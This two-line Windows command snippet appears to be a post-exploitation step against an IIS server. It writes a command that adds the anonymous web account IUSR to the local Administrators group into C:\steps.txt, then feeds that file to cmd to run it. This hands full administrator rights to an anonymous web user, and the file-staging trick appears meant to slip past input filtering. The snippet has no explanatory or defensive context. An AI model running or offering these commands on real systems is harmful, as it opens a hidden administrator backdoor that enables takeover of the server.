echo net localgroup Administrators IUSR /add > C:\steps.txt
cmd < C:\steps.txt
